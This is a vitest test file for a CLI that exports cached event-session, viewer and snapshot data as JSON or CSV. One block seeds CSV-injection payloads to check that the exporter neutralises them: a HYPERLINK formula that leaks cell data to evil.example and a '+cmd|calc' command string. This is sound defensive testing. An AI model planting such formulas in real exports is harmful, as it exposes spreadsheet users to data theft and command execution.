// `eventwatch export viewers|snapshots|sessions`: the store's export queries in process, and the
// commands as real child processes over a cache seeded by hand (hand-made viewer records with
// nested network connections, proxies and fields the spec does not know) and by `sync --once`.
import { spawn } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { EventSessionSchema, ViewerSchema } from '../../src/main/core/api/schemas'
import { openDatabase, type Db } from '../../src/main/core/store/db'
import {
  exportSessions,
  exportSnapshots,
  exportViewers,
  iterateViewers,
  sessionConnections
} from '../../src/main/core/store/exports'
import * as sessionsModule from '../../src/main/core/store/sessions'
import { storeSessionList, storeSessionSnapshot } from '../../src/main/core/store/sessions'
import { upsertConnection } from '../../src/main/core/store/connections'
import { storeViewerList } from '../../src/main/core/store/viewers'
import { parseCsv } from '../support/parse-csv'

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..')
const BIN = join(ROOT, 'bin', 'eventwatch.js')
const NO_STACK = /\n\s+at .+[:(]/
const T = Date.parse('2025-03-10T09:00:00.000Z')
const at = (minutes: number): string => new Date(T + minutes * 60_000).toISOString()

// ---------------------------------------------------------------------------------------------
// The seeded cache

const LIVE = 'sess-live'
const NO_VIEWERS = 'sess-not-fetched'
const EMPTY = 'sess-empty'
const SHARED = 'sess-shared' // the same id under two connections

function session(id: string, extra: Record<string, unknown> = {}) {
  return EventSessionSchema.parse({
    eventSessionId: id,
    platformId: 'p',
    tenantId: 't',
    contentId: `content-${id}`,
    eventName: `Event ${id}`,
    startedAt: at(0),
    updatedAt: at(30),
    hasEnded: false,
    viewersCount: 3,
    reliabilityScore: 97.5,
    cdnTraffic: 1000,
    ecdnTraffic: 2000,
    ...extra
  })
}

/** Viewer records as the service might send them. */
const RAW_VIEWERS = [
  {
    viewerId: 'v-full',
    deviceType: 'desktop',
    os: 'Windows 11',
    app: 'Teams',
    networkConnections: [
      {
        connectionStarted: at(5),
        publicIp: '203.0.113.10',
        privateIp: '10.0.0.10',
        type: { kind: 'wifi', ssid: 'corp, 5GHz' },
        proxy: ['proxy-a:8080', 'proxy-b:3128'],
        siteCode: 12,
        vendorTag: 'kept' // unknown field inside a connection
      },
      { publicIp: '203.0.113.11', type: 'wired' }
    ],
    reliabilityScore: '96.5', // numeric string: accepted as a number
    rebufferingEvents: 2,
    rebufferingTime: 4.5,
    viewingTime: 1500,
    startedAt: at(5),
    endedAt: at(25),
    cdnTraffic: 123456,
    ecdnTraffic: 654321,
    cdnResponses: 40,
    cdnErrors: 1,
    geo: { country: 'NL', city: 'Delft' } // unknown top-level field
  },
  { viewerId: 'v-bare' }, // no startedAt: sorts last
  { viewerId: 'v-early', deviceType: 'mobile', startedAt: at(1), note: 'said "hi", left\nearly' }
]

const EXPECTED_VIEWERS = [
  { viewerId: 'v-early', deviceType: 'mobile', startedAt: at(1), note: 'said "hi", left\nearly' },
  {
    viewerId: 'v-full',
    deviceType: 'desktop',
    os: 'Windows 11',
    app: 'Teams',
    networkConnections: [
      {
        connectionStarted: at(5),
        publicIp: '203.0.113.10',
        privateIp: '10.0.0.10',
        type: { kind: 'wifi', ssid: 'corp, 5GHz' },
        proxy: ['proxy-a:8080', 'proxy-b:3128'],
        siteCode: 12,
        vendorTag: 'kept'
      },
      { publicIp: '203.0.113.11', type: 'wired' }
    ],
    reliabilityScore: 96.5,
    rebufferingEvents: 2,
    rebufferingTime: 4.5,
    viewingTime: 1500,
    startedAt: at(5),
    endedAt: at(25),
    cdnTraffic: 123456,
    ecdnTraffic: 654321,
    cdnResponses: 40,
    cdnErrors: 1,
    geo: { country: 'NL', city: 'Delft' }
  },
  { viewerId: 'v-bare' }
]

function connection(id: string, name: string) {
  return {
    id,
    name,
    baseUrl: 'https://api.example.test',
    authUrl: 'https://auth.example.test',
    platformId: 'p',
    tenantId: 't',
    clientId: 'c',
    isDemo: false
  }
}

function seed(db: Db): void {
  upsertConnection(db, connection('conn-a', 'Tenant A'), T)
  upsertConnection(db, connection('conn-b', 'Tenant B'), T)
  storeSessionList(db, 'conn-a', [session(LIVE), session(NO_VIEWERS, { hasEnded: true }), session(EMPTY), session(SHARED)], T)
  storeSessionList(db, 'conn-b', [session(SHARED)], T)
  storeSessionSnapshot(db, 'conn-a', session(LIVE, { viewersCount: 2, updatedAt: at(31) }), T + 31 * 60_000)
  storeSessionSnapshot(db, 'conn-a', session(LIVE, { viewersCount: 3, updatedAt: at(32), reliabilityScore: 95 }), T + 32 * 60_000)
  storeSessionSnapshot(db, 'conn-b', session(SHARED, { viewersCount: 9, updatedAt: at(33) }), T + 33 * 60_000)
  storeViewerList(db, 'conn-a', LIVE, RAW_VIEWERS.map((v) => ViewerSchema.parse(v)), T, 1)
  storeViewerList(db, 'conn-a', EMPTY, [], T, 1)
  storeViewerList(db, 'conn-a', SHARED, [ViewerSchema.parse({ viewerId: 'from-a' })], T, 1)
  storeViewerList(db, 'conn-b', SHARED, [ViewerSchema.parse({ viewerId: 'from-b' })], T, 1)
}

let home: string
let dbFile: string

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'eventwatch-export-'))
  dbFile = join(home, 'seeded.db')
  const db = openDatabase(dbFile)
  try {
    seed(db)
  } finally {
    db.close()
  }
})

afterAll(() => {
  rmSync(home, { recursive: true, force: true })
})

// ---------------------------------------------------------------------------------------------
// In process

describe('export queries', () => {
  let db: Db
  beforeAll(() => {
    db = openDatabase(dbFile)
  })
  afterAll(() => db.close())

  it('give viewers under the API field names, by startedAt then viewerId, absent fields left out', () => {
    expect(exportViewers(db, LIVE)).toEqual(EXPECTED_VIEWERS)
    expect(exportViewers(db, LIVE, 'conn-a')).toEqual(EXPECTED_VIEWERS)
    expect(exportViewers(db, LIVE, 'conn-b')).toEqual([])
    expect(exportViewers(db, EMPTY)).toEqual([])
  })

  it('tell where a session id is cached, so an ambiguous one can be refused', () => {
    expect(sessionConnections(db, 'nope')).toEqual([])
    expect(sessionConnections(db, NO_VIEWERS)).toEqual([
      { connectionId: 'conn-a', connectionName: 'Tenant A', hasViewerList: false, viewerCount: null }
    ])
    expect(sessionConnections(db, SHARED).map((l) => l.connectionName)).toEqual(['Tenant A', 'Tenant B'])
    expect(exportViewers(db, SHARED, 'conn-b')).toEqual([{ viewerId: 'from-b' }])
  })

  it('give snapshots oldest first, per connection when asked', () => {
    expect(exportSnapshots(db, LIVE)).toEqual([
      { time: at(31), viewersCount: 2, reliabilityScore: 97.5, cdnTraffic: 1000, ecdnTraffic: 2000 },
      { time: at(32), viewersCount: 3, reliabilityScore: 95, cdnTraffic: 1000, ecdnTraffic: 2000 }
    ])
    expect(exportSnapshots(db, SHARED, 'conn-a')).toEqual([])
    expect(exportSnapshots(db, SHARED, 'conn-b').map((s) => s.viewersCount)).toEqual([9])
    expect(exportSnapshots(db, 'nope')).toEqual([])
  })

  it('keep exportSessions reachable from store/sessions as before', () => {
    expect(exportSessions).toBe(sessionsModule.exportSessions)
    expect(exportSessions(db).length).toBe(5)
  })

  it('merge 20,000 viewers with their connections in one pass, and release the statements on break', () => {
    const viewers = Array.from({ length: 20_000 }, (_, i) =>
      ViewerSchema.parse({
        viewerId: `bulk-${String(i).padStart(5, '0')}`,
        startedAt: at(i % 7), // many ties: viewerId decides
        networkConnections: Array.from({ length: i % 3 }, (_, k) => ({ publicIp: `ip-${i}-${k}` }))
      })
    )
    storeViewerList(db, 'conn-a', EMPTY, viewers, T, 200)
    const started = Date.now()
    let count = 0
    let previous = ''
    for (const v of iterateViewers(db, EMPTY)) {
      const n = Number(String(v.viewerId).slice(5))
      const ips = ((v.networkConnections as { publicIp: string }[] | undefined) ?? []).map((c) => c.publicIp)
      expect(ips).toEqual(Array.from({ length: n % 3 }, (_, k) => `ip-${n}-${k}`))
      const key = `${v.startedAt as string}|${v.viewerId as string}`
      expect(key > previous).toBe(true)
      previous = key
      count++
    }
    expect(count).toBe(20_000)
    expect(Date.now() - started).toBeLessThan(10_000)

    for (const v of iterateViewers(db, EMPTY)) if (v.viewerId) break
    storeViewerList(db, 'conn-a', EMPTY, [], T, 1) // a write would fail with a statement still open
    expect(exportViewers(db, EMPTY)).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------------
// As child processes

function run(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string; bytes: Buffer }> {
  const env: NodeJS.ProcessEnv = { ...process.env, HOME: home, XDG_DATA_HOME: join(home, 'data'), XDG_CONFIG_HOME: join(home, 'config') }
  delete env.NODE_OPTIONS // vitest's own loader hooks are not the CLI's business
  delete env.EVENTWATCH_DB
  delete env.EVENTWATCH_CLIENT_SECRET
  const child = spawn(process.execPath, [BIN, ...args], { cwd: ROOT, env, stdio: ['ignore', 'pipe', 'pipe'] })
  const out: Buffer[] = []
  let stderr = ''
  child.stdout.on('data', (d: Buffer) => out.push(d))
  child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d))
  return new Promise((resolvePromise, reject) => {
    child.on('error', reject)
    child.on('close', (code) => {
      const bytes = Buffer.concat(out)
      resolvePromise({ code, stdout: bytes.toString('utf8'), stderr, bytes })
    })
  })
}

function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text)
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])))
}

function expectOneLineFailure(result: { code: number | null; stdout: string; stderr: string }, pattern: RegExp): void {
  expect(result.code).toBe(2)
  expect(result.stdout).toBe('')
  const lines = result.stderr.split('\n').filter((l) => l.trim() !== '')
  expect(lines).toHaveLength(1)
  expect(lines[0]).toMatch(pattern)
  expect(result.stderr).not.toMatch(NO_STACK)
}

describe('eventwatch export viewers', () => {
  it('--format json prints the viewer records as received, pretty-printed', async () => {
    const { code, stdout, stderr } = await run(['export', 'viewers', '--session', LIVE, '--db', dbFile, '--format', 'json'])
    expect(stderr).toBe('')
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toEqual(EXPECTED_VIEWERS)
    expect(stdout).toBe(`${JSON.stringify(JSON.parse(stdout), null, 2)}\n`)
    expect(stdout).not.toContain('null')
  })

  it('--format csv flattens network connections into indexed dotted columns', async () => {
    const { code, stdout } = await run(['export', 'viewers', '--session', LIVE, '--db', dbFile, '--format', 'csv'])
    expect(code).toBe(0)
    const header = parseCsv(stdout)[0]!
    expect(header.slice(0, 4)).toEqual(['viewerId', 'deviceType', 'startedAt', 'note'])
    for (const column of [
      'networkConnections.0.connectionStarted',
      'networkConnections.0.publicIp',
      'networkConnections.0.privateIp',
      'networkConnections.0.type.kind',
      'networkConnections.0.type.ssid',
      'networkConnections.0.proxy',
      'networkConnections.0.siteCode',
      'networkConnections.0.vendorTag',
      'networkConnections.1.publicIp',
      'networkConnections.1.type',
      'reliabilityScore',
      'cdnErrors',
      'geo.country'
    ]) {
      expect(header).toContain(column)
    }
    expect(header.indexOf('networkConnections.1.publicIp')).toBeGreaterThan(header.indexOf('networkConnections.0.vendorTag'))
    expect(header.indexOf('networkConnections.1.type')).toBeLessThan(header.indexOf('reliabilityScore'))

    const rows = csvObjects(stdout)
    expect(rows.map((r) => r.viewerId)).toEqual(['v-early', 'v-full', 'v-bare'])
    expect(rows[0]!.note).toBe('said "hi", left\nearly')
    const full = rows[1]!
    expect(full['networkConnections.0.type.ssid']).toBe('corp, 5GHz')
    expect(full['networkConnections.0.proxy']).toBe('proxy-a:8080;proxy-b:3128')
    expect(full['networkConnections.1.type']).toBe('wired')
    expect(full.reliabilityScore).toBe('96.5')
    expect(full['geo.city']).toBe('Delft')
    expect(rows[2]!.deviceType).toBe('')
  })

  it('refuses a viewer list never fetched, and prints [] (or just the header) for an empty one', async () => {
    const json = await run(['export', 'viewers', '--session', NO_VIEWERS, '--db', dbFile])
    expectOneLineFailure(json, /viewers of session "sess-not-fetched" are not cached yet/)

    const db = openDatabase(dbFile)
    storeSessionList(db, 'conn-a', [session('sess-zero')], T)
    storeViewerList(db, 'conn-a', 'sess-zero', [], T, 1)
    db.close()
    const empty = await run(['export', 'viewers', '--session', 'sess-zero', '--db', dbFile])
    expect(empty.code).toBe(0)
    expect(empty.stdout).toBe('[]\n')
    const csv = await run(['export', 'viewers', '--session', 'sess-zero', '--db', dbFile, '--format', 'csv'])
    expect(csv.stdout.split('\r\n')[0]!.split(',')[0]).toBe('viewerId')
  })

  it('an unknown session exits 2 with one line on stderr', async () => {
    expectOneLineFailure(await run(['export', 'viewers', '--session', 'nope', '--db', dbFile]), /^eventwatch: no session "nope"/)
  })

  it('without --session exits non-zero naming the option', async () => {
    const { code, stdout, stderr } = await run(['export', 'viewers', '--db', dbFile])
    expect(code).not.toBe(0)
    expect(code).not.toBeNull()
    expect(stdout).toBe('')
    expect(stderr).toContain('--session')
  })

  it('a session cached under two connections needs --connection (name or id)', async () => {
    expectOneLineFailure(await run(['export', 'viewers', '--session', SHARED, '--db', dbFile]), /--connection/)
    const byName = await run(['export', 'viewers', '--session', SHARED, '--db', dbFile, '--connection', 'tenant b'])
    expect(byName.code).toBe(0)
    expect(JSON.parse(byName.stdout)).toEqual([{ viewerId: 'from-b' }])
    const byId = await run(['export', 'viewers', '--session', SHARED, '--db', dbFile, '--connection', 'conn-a'])
    expect(JSON.parse(byId.stdout)).toEqual([{ viewerId: 'from-a' }])
    expectOneLineFailure(
      await run(['export', 'viewers', '--session', LIVE, '--db', dbFile, '--connection', 'Tenant B']),
      /not cached for connection "Tenant B"/
    )
  })

  it('a missing cache file exits 2 with one line and is not created', async () => {
    const missing = join(home, 'nowhere', 'missing.db')
    expectOneLineFailure(await run(['export', 'viewers', '--session', LIVE, '--db', missing]), /no cache at .*missing\.db/)
    expect(existsSync(missing)).toBe(false)
  })
})

describe('eventwatch export snapshots', () => {
  it('--format json prints time plus the four counters, oldest first', async () => {
    const { code, stdout, stderr } = await run(['export', 'snapshots', '--session', LIVE, '--db', dbFile])
    expect(stderr).toBe('')
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toEqual([
      { time: at(31), viewersCount: 2, reliabilityScore: 97.5, cdnTraffic: 1000, ecdnTraffic: 2000 },
      { time: at(32), viewersCount: 3, reliabilityScore: 95, cdnTraffic: 1000, ecdnTraffic: 2000 }
    ])
  })

  it('--format csv has the header row and one line per snapshot', async () => {
    const { code, stdout } = await run(['export', 'snapshots', '--session', LIVE, '--db', dbFile, '--format', 'csv'])
    expect(code).toBe(0)
    expect(stdout).toBe(
      'time,viewersCount,reliabilityScore,cdnTraffic,ecdnTraffic\r\n' +
        `${at(31)},2,97.5,1000,2000\r\n` +
        `${at(32)},3,95,1000,2000\r\n`
    )
    const none = await run(['export', 'snapshots', '--session', NO_VIEWERS, '--db', dbFile, '--format', 'csv'])
    expect(none.stdout).toBe('time,viewersCount,reliabilityScore,cdnTraffic,ecdnTraffic\r\n')
  })

  it('an unknown session exits 2 with one line; --session is required', async () => {
    expectOneLineFailure(await run(['export', 'snapshots', '--session', 'nope', '--db', dbFile]), /no session "nope"/)
    const { code, stderr } = await run(['export', 'snapshots', '--db', dbFile])
    expect(code).not.toBe(0)
    expect(stderr).toContain('--session')
  })
})

describe('eventwatch export of hostile text (CSV injection)', () => {
  const HOSTILE = 'sess-hostile'
  const EVENT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Q4 All-Hands")'
  let file: string

  beforeAll(() => {
    file = join(home, 'hostile.db')
    const db = openDatabase(file)
    try {
      upsertConnection(db, connection('conn-a', 'Tenant A'), T)
      storeSessionList(db, 'conn-a', [session(HOSTILE, { eventName: EVENT_NAME, contentId: '+cmd|calc' })], T)
      const viewers = [{ viewerId: 'v-1', os: '@SUM(1)', app: '-2+3', deviceType: '\tdesktop', rebufferingEvents: 0, networkConnections: [{ publicIp: '=1+1', siteCode: 7 }] }]
      storeViewerList(db, 'conn-a', HOSTILE, viewers.map((v) => ViewerSchema.parse(v)), T, 1)
    } finally {
      db.close()
    }
  })

  it('writes formula-looking text with a leading quote in CSV, and as received in JSON', async () => {
    const sessions = await run(['export', 'sessions', '--db', file, '--format', 'csv'])
    expect(sessions.code).toBe(0)
    const row = csvObjects(sessions.stdout).find((r) => r.eventSessionId === HOSTILE)!
    expect(row.eventName).toBe(`'${EVENT_NAME}`)
    expect(row.contentId).toBe("'+cmd|calc")
    expect(row.viewersCount).toBe('3')

    const viewers = await run(['export', 'viewers', '--session', HOSTILE, '--db', file, '--format', 'csv'])
    expect(viewers.code).toBe(0)
    const [viewer] = csvObjects(viewers.stdout)
    expect(viewer).toMatchObject({ os: "'@SUM(1)", app: "'-2+3", deviceType: "'\tdesktop", 'networkConnections.0.publicIp': "'=1+1" })
    expect(viewer!['networkConnections.0.siteCode']).toBe('7')
    // No cell of the file starts a formula, quoted or not.
    for (const cells of parseCsv(viewers.stdout)) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)

    const json = await run(['export', 'viewers', '--session', HOSTILE, '--db', file])
    expect((JSON.parse(json.stdout) as Record<string, unknown>[])[0]!.os).toBe('@SUM(1)')
  })

  it('--bom starts the CSV with EF BB BF; without it the file starts with the header', async () => {
    const withBom = await run(['export', 'viewers', '--session', HOSTILE, '--db', file, '--format', 'csv', '--bom'])
    expect(withBom.code).toBe(0)
    expect([...withBom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const without = await run(['export', 'viewers', '--session', HOSTILE, '--db', file, '--format', 'csv'])
    expect(withBom.bytes.subarray(3).equals(without.bytes)).toBe(true)
    expect(without.stdout.startsWith('viewerId,')).toBe(true)
  })

  it('--bom with JSON is refused in one line: JSON never starts with a byte-order mark', async () => {
    expectOneLineFailure(await run(['export', 'sessions', '--db', file, '--bom']), /--bom applies to CSV only/)
  })
})

describe('after sync --once', () => {
  let synced: string

  beforeAll(async () => {
    synced = join(home, 'synced.db')
    const result = await run(['sync', '--once', '--db', synced])
    expect(result.stderr).not.toMatch(NO_STACK)
    expect(result.code).toBe(0)
  }, 60_000)

  it("exports a live session's snapshot and viewers to match the cache", async () => {
    const sessions = JSON.parse((await run(['export', 'sessions', '--db', synced])).stdout) as Record<string, unknown>[]
    const live = sessions.find((s) => s.hasEnded === false)
    expect(live).toBeDefined()
    const id = live!.eventSessionId as string

    const snapshots = JSON.parse((await run(['export', 'snapshots', '--session', id, '--db', synced])).stdout) as Record<string, unknown>[]
    expect(snapshots).toHaveLength(1)
    expect(snapshots[0]!.viewersCount).toBe(live!.viewersCount)

    const db = openDatabase(synced)
    const list = db
      .prepare('SELECT viewer_count AS n FROM viewer_lists WHERE event_session_id = ?')
      .get(id) as { n: number } | undefined
    db.close()
    expect(list).toBeDefined()
    const viewers = await run(['export', 'viewers', '--session', id, '--db', synced])
    expect(viewers.code).toBe(0)
    const items = JSON.parse(viewers.stdout) as Record<string, unknown>[]
    expect(items).toHaveLength(list!.n)
    for (const v of items) expect(typeof v.viewerId).toBe('string')
    const csv = await run(['export', 'viewers', '--session', id, '--db', synced, '--format', 'csv'])
    expect(csv.code).toBe(0)
    expect(parseCsv(csv.stdout)).toHaveLength(1 + list!.n)
  }, 60_000)
})
